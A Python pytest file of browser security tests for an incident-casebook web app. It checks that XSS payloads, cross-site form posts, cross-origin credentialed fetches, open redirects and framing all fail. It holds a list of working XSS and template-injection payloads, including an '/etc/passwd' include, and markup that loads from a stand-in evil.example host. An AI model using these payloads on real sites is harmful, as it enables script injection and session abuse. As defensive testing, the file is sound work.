"""Attacks in a real browser: hostile words wherever reports and people put words, and pages of strangers that try to use ours.

A case fails when a script of the attacker runs, a dialog opens, anything is asked of another host, a live address leads out, or
something is changed that nobody meant to change.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from browsing import MARKS, links, served, tab
from by_hand import Spot, Who, blames, killed, reading, told, weapon
from recounted.casebook import Casebook
from recounted.casebook.people import People
from recounted.review.accounts import passwords
from served import filled

pytest.importorskip("playwright.sync_api")
pytestmark = MARKS

HURT = "window.hurt=1"
PAYLOADS = {
    "script": f"<script>{HURT}</script>",
    "closing script": f"</script><script>{HURT}</script>",
    "closing title": f"</title><script>{HURT}</script>",
    "closing textarea": f"</textarea><img src=x onerror={HURT}>",
    "closing mark": f"</mark></p></article><img src=x onerror={HURT}>",
    "image": f'<img src=x onerror="{HURT}">',
    "svg": f'"><svg onload={HURT}>',
    "svg script": f"<svg><script>{HURT}</script></svg>",
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{HURT}" /><text x=20 y=20>x</text></a></svg>',
    "svg use": f"<svg><use href=\"data:image/svg+xml,<svg id='x'><script>{HURT}</script></svg>#x\"></use></svg>",
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{HURT}">',
    "handler": f'" onmouseover="{HURT}" autofocus onfocus="{HURT}" x="',
    "single quote": f"' autofocus onfocus='{HURT}' x='",
    "javascript address": f"javascript:{HURT}",
    "javascript with a line": f"java\nscript:{HURT}",
    "javascript after blanks": f"\u00a0\u2028javascript:{HURT}",
    "data address": f"data:text/html,<script>{HURT}</script>",
    "frame": f'<iframe srcdoc="<script>parent.{HURT}</script>"></iframe>',
    "object": f'<object data="javascript:{HURT}"></object><embed src="javascript:{HURT}">',
    "meta": f'<meta http-equiv=refresh content="0;url=javascript:{HURT}">',
    "base": "<base href=http://evil.example/><a href=x>x</a>",
    "form": f'<form action="javascript:{HURT}"><button autofocus>x</button></form>',
    "style": "<style>@import 'http://evil.example/x.css';body{background:url(http://evil.example/y)}</style>",
    "htmx": f'<div hx-get="http://evil.example/" hx-trigger=load hx-on:htmx:load="{HURT}" data-hx-vals="js:{{x:{HURT}}}">x</div>',
    "template": "{{ 7*7 }}{{ config }}{% include '/etc/passwd' %}${7*7}#{7*7}",
    "direction": "\u202ecod.exe\u202c \u2066\u202eabc\u2069 \u200f\u061c",
    "marks of nothing": "a\u200bb\ufeffc\u00add\u2060e\U000e0041",
    "json": f'{{"x":"</script><script>{HURT}</script>"}}',
}
NAMES = list(PAYLOADS)


def readings() -> list[Any]:
    return [
        reading(
            f"{words[:60]}.txt",
            told(
                "2022-04-08",
                Spot(words, "UA", 10.0 + n * 2, 10.0 + n * 2),
                killed(5 + n, by=Who(words, words, "witness", words)),
                blames(words, by=Who(words, words)),
                weapon("missile", by=Who(None, words)),
            ),
            title=words,
            outlet=words,
            url=words,
            lang="en",
            published="2022-04-09",
            text=f"{words}\nThe market burned, case {n}, {words}.\n",
        )
        for n, words in enumerate(PAYLOADS.values())
    ]


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Casebook]:
    with filled(tmp_path_factory.mktemp("attacks") / "<b>t.casebook", readings()) as made:
        for incident in list(made.incidents()):
            words = PAYLOADS[NAMES[incident.tolls[0].low - 5]]  # type: ignore[operator]
            made.set_value(incident.id, "title", words, by=words.replace("\n", " ")[:80], why=words)
            made.set_value(incident.id, "grade", "weak", by="Ana", why=words)
            [read] = made.readings([incident.mentions[0].report_id])
            made.reject(read.mentions[0].claims[-1].id, by=words.replace("\n", " ")[:80], why=words)
        yield made


@pytest.fixture
def page(chromium: Any, address: str) -> Iterator[Any]:
    with tab(chromium, address) as shown:
        shown.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        yield shown


TOUCH = """() => document.querySelectorAll('main a, main button, main mark').forEach((e) => {
  e.focus();
  e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
})"""
LIVE = """() => {
  const odd = [];
  for (const e of document.querySelectorAll('[href],[src],[action],[formaction],[srcset],[data],[poster]'))
    for (const name of ['href', 'src', 'action', 'formaction', 'srcset', 'data', 'poster'])
      if (e.hasAttribute(name) && new URL(e.getAttribute(name), location).origin !== location.origin)
        odd.push(e.outerHTML.slice(0, 200));
  for (const e of document.querySelectorAll('iframe,object,embed,base,style,script:not([src]),meta[http-equiv]'))
    if (!['application/json', 'importmap'].includes(e.type)) odd.push(e.outerHTML.slice(0, 200));
  for (const e of document.querySelectorAll('*'))
    for (const a of e.attributes)
      if (a.name.startsWith('on') || a.name.includes('hx-on')) odd.push(`${e.tagName} ${a.name}`);
  return odd;
}"""


def look(page: Any, where: str) -> None:
    """The page as somebody sees it who moves over everything that looks like something."""
    page.goto(where)
    assert page.evaluate(LIVE) == [], where
    page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    page.evaluate(TOUCH)
    page.wait_for_timeout(30)
    assert page.evaluate("typeof window.hurt") == "undefined", where


def incident_of(book: Casebook, name: str) -> Any:
    low = NAMES.index(name) + 5
    return next(i for i in book.incidents() if i.tolls and i.tolls[0].low == low)


@pytest.mark.parametrize("name", NAMES)
def test_in_an_incident(page: Any, book: Casebook, name: str) -> None:
    incident = incident_of(book, name)
    look(page, f"/incidents/{incident.id}")
    assert page.locator("h1").count() == 1


@pytest.mark.parametrize("name", NAMES)
def test_in_a_report(page: Any, book: Casebook, name: str) -> None:
    incident = incident_of(book, name)
    look(page, f"/reports/{incident.mentions[0].report_id[7:19]}")
    assert page.locator("article.text, .text").count() >= 1


@pytest.mark.parametrize("name", NAMES)
def test_in_what_is_asked_for(page: Any, name: str) -> None:
    asked = quote(PAYLOADS[name], safe="")
    for where in (f"/?q={asked}&actor={asked}&since={asked}&view={asked}&done={asked}", f"/reports?q={asked}&before={asked}"):
        look(page, where)


def test_in_lists_decisions_and_all_that_the_menu_leads_to(page: Any) -> None:
    page.goto("/")
    for where in dict.fromkeys(["/", "/reports", "/acts", *[a for a in links(page, "/")[:15] if not a.startswith("/static")]]):
        look(page, where)


@pytest.mark.parametrize("name", ["script", "svg", "handler", "javascript address", "htmx", "direction"])
def test_in_the_name_that_somebody_gives_themselves(page: Any, name: str) -> None:
    page.goto("/name")
    page.fill("#by", PAYLOADS[name][:90])
    page.click("main form button")
    look(page, "/")
    look(page, "/name")


@pytest.mark.parametrize("name", ["script", "image", "handler", "closing title", "template", "direction"])
def test_in_the_reason_of_a_decision_sent_by_form(page: Any, book: Casebook, name: str) -> None:
    incident = incident_of(book, "base")
    page.goto(f"/incidents/{incident.id}")
    page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    page.locator("input[name=why]").first.fill(PAYLOADS[name])
    look(page, f"/incidents/{incident.id}")
    token = page.get_attribute("input[name=token]", "value")
    sent = {"token": token, "field": "grade", "value": "fair", "why": PAYLOADS[name]}
    answer = page.request.post(f"/incidents/{incident.id}/set", form=sent, headers={"Sec-Fetch-Site": "same-origin"})
    assert answer.status == 200
    look(page, "/acts")


@pytest.mark.parametrize(
    ("name", "body"),
    [
        (
            "page.html",
            f"<html><body><p>A missile hit Sumy, killing 3 people.</p><script>{HURT}</script><img src=x onerror={HURT}>",
        ),
        ("drawing.svg", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{HURT}'><text>killed 3</text></svg>"),
        ("<img src=x onerror=window.hurt=1>.txt", "A missile hit Sumy, killing 3 people."),
        ("\u202etxt.exe", "A missile hit Sumy, killing 3 people."),
    ],
)
def test_in_files_that_are_handed_in(page: Any, tmp_path: Path, name: str, body: str) -> None:
    page.goto("/add")
    page.set_input_files("#files", {"name": name, "mimeType": "text/html", "buffer": body.encode()})
    page.click("button:has-text('Read them')")
    page.wait_for_selector("h1:has-text('Done')", timeout=60_000)
    look(page, page.url)
    look(page, "/reports")


# ------------------------------------------------------------------------------------------------------------- pages of strangers


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, dict[str, str]]]:
    """Another site, on ``localhost`` where ours is ``127.0.0.1``: address, and its pages by path."""
    pages: dict[str, str] = {}

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = pages.get(self.path, "").encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        yield f"http://localhost:{server.server_address[1]}", pages
        server.shutdown()
        thread.join()


@pytest.fixture
def stranger(chromium: Any, address: str, elsewhere: tuple[str, dict[str, str]]) -> Iterator[Any]:
    """A browser that has ours open, and then goes to the other site."""
    context = chromium.new_context()
    mine = context.new_page()
    mine.goto(address)
    yield mine
    context.close()


def visit(page: Any, elsewhere: tuple[str, dict[str, str]], body: str) -> Any:
    where, pages = elsewhere
    pages["/x"] = body
    page.goto(f"{where}/x")
    page.wait_for_timeout(600)
    return page


def test_ours_is_not_framed(stranger: Any, address: str, elsewhere: tuple[str, dict[str, str]]) -> None:
    page = visit(stranger, elsewhere, f"<iframe src='{address}/'></iframe>")
    assert all("Recounted" not in frame.content() for frame in page.frames)


@pytest.mark.parametrize("target", ["/add/examples", "/name", "/acts/1/undo", "/language", "/logout"])
def test_a_form_elsewhere_changes_nothing(
    stranger: Any, address: str, book: Casebook, elsewhere: tuple[str, dict[str, str]], target: str
) -> None:
    before = len(book.history())
    form = f"<form method=post action='{address}{target}'><input name=by value=evil><input name=lang value=fr></form>"
    with stranger.expect_response(f"{address}{target}") as answer:
        visit(stranger, elsewhere, f"{form}<script>document.forms[0].submit()</script>")
    assert answer.value.status == 403
    assert len(book.history()) == before


@pytest.mark.parametrize("mode", ["no-cors", "cors"])
@pytest.mark.parametrize("target", ["/", "/api/incidents", "/openapi.json"])
def test_a_script_elsewhere_reads_nothing(
    stranger: Any, address: str, elsewhere: tuple[str, dict[str, str]], target: str, mode: str
) -> None:
    read = f"fetch('{address}{target}', {{mode: '{mode}', credentials: 'include'}}).then(r => r.text()).then(t => window.got = t)"
    page = visit(stranger, elsewhere, f"<script>{read}</script>")
    assert not page.evaluate("window.got")


def test_a_script_elsewhere_writes_nothing(
    stranger: Any, address: str, book: Casebook, elsewhere: tuple[str, dict[str, str]]
) -> None:
    before = len(book.history())
    incident = next(iter(book.incidents()))
    sent = "{method: 'POST', mode: 'no-cors', credentials: 'include', body: '{\"field\":\"title\",\"value\":\"x\"}'}"
    visit(stranger, elsewhere, f"<script>fetch('{address}/api/incidents/{incident.id}/set', {sent})</script>")
    assert len(book.history()) == before


@pytest.mark.parametrize("tag", ["<script src='{a}'></script>", "<img src='{a}'>", "<object data='{a}'></object>"])
def test_nothing_of_ours_is_drawn_into_another_page(
    stranger: Any, address: str, elsewhere: tuple[str, dict[str, str]], tag: str
) -> None:
    page = visit(stranger, elsewhere, tag.format(a=f"{address}/api/incidents"))
    assert page.evaluate(
        "[...document.querySelectorAll('img')].every(i => i.naturalWidth === 0) && document.styleSheets.length === 0"
    )


def test_a_window_that_opens_ours_is_cut_off(stranger: Any, address: str, elsewhere: tuple[str, dict[str, str]]) -> None:
    page = visit(stranger, elsewhere, f"<a href='{address}/' target=ours rel=opener>x</a>")
    with stranger.expect_popup() as opened:
        page.click("a")
    opened.value.wait_for_selector("h1")
    assert opened.value.evaluate("window.opener === null")


def test_no_script_in_a_page_of_ours_runs_but_our_files(chromium: Any, address: str) -> None:
    context = chromium.new_context(base_url=address)
    page = context.new_page()
    page.goto("/")
    page.evaluate("const s = document.createElement('script'); s.textContent = 'window.hurt=1'; document.body.append(s)")
    page.evaluate(
        "const a = document.createElement('a'); a.href = 'javascript:window.hurt=1'; document.body.append(a); a.click()"
    )
    page.evaluate("const i = document.createElement('img'); i.src = 'http://evil.example/'; document.body.append(i)")
    page.wait_for_timeout(200)
    assert page.evaluate("typeof window.hurt") == "undefined"
    context.close()


# ---------------------------------------------------------------------------------------------------------------------- accounts


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with filled(tmp_path_factory.mktemp("guarded") / "t.casebook", readings()[:3]) as made:
        People(made).add("Ana", "owner", by="test", password=passwords.hashed("seven green ladders by the quay"))
        with served(made, accounts=True) as where:
            yield where


def sign_in(page: Any) -> None:
    page.fill("#login-name", "Ana")
    page.fill("#login-password", "seven green ladders by the quay")
    page.click("main button")


@pytest.mark.parametrize("onward", ["//evil.example", "https://evil.example/", "/\\evil.example", "javascript:window.hurt=1"])
def test_signing_in_leads_nowhere_else(chromium: Any, guarded: str, onward: str) -> None:
    with tab(chromium, guarded) as page:
        page.goto(f"/login?next={quote(onward, safe='')}")
        sign_in(page)
        page.wait_for_selector("form.me")
        assert page.url == f"{guarded}/"


def test_a_session_is_out_of_a_script_s_reach_and_ends_when_signed_out(chromium: Any, guarded: str) -> None:
    with tab(chromium, guarded) as page:
        page.goto("/reports")
        assert page.url.startswith(f"{guarded}/login")
        sign_in(page)
        page.wait_for_url("**/reports")
        assert page.evaluate("document.cookie") == ""
        assert page.evaluate("localStorage.length") == 0
        kept = page.evaluate("Object.entries(sessionStorage)")
        assert [key for key, _ in kept] in ([], ["htmx-current-path-for-history"]), "the address, as the browser has it anyway"
        page.click("form.me button")
        page.wait_for_url("**/login")
        page.go_back()
        page.reload()
        assert page.locator("#login-name").is_visible(), "nothing is shown from the browser's store"


@pytest.mark.parametrize("name", ["script", "svg", "handler", "javascript address"])
def test_in_names_of_people_and_tokens(chromium: Any, guarded: str, name: str) -> None:
    with tab(chromium, guarded) as page:
        page.goto("/people")
        sign_in(page)
        page.wait_for_url("**/people")
        page.fill("#add-name", PAYLOADS[name][:90])
        page.click("form[action='/people'] button")
        page.wait_for_selector(".secret")
        page.goto("/me")
        page.fill("#me-label", PAYLOADS[name][:90])
        page.click("form[action='/me/tokens'] button")
        page.wait_for_selector(".secret")
        for where in ("/people", "/me", "/access"):
            look(page, where)


def test_a_form_elsewhere_signs_nobody_in(chromium: Any, guarded: str, elsewhere: tuple[str, dict[str, str]]) -> None:
    context = chromium.new_context()
    page = context.new_page()
    fields = "<input name=name value=Ana><input name=password value='seven green ladders by the quay'>"
    form = f"<form method=post action='{guarded}/login'>{fields}</form>"
    with page.expect_response(f"{guarded}/login") as answer:
        visit(page, elsewhere, f"{form}<script>document.forms[0].submit()</script>")
    assert answer.value.status == 403
    assert not [c for c in context.cookies(guarded) if "session" in c["name"]]
    context.close()
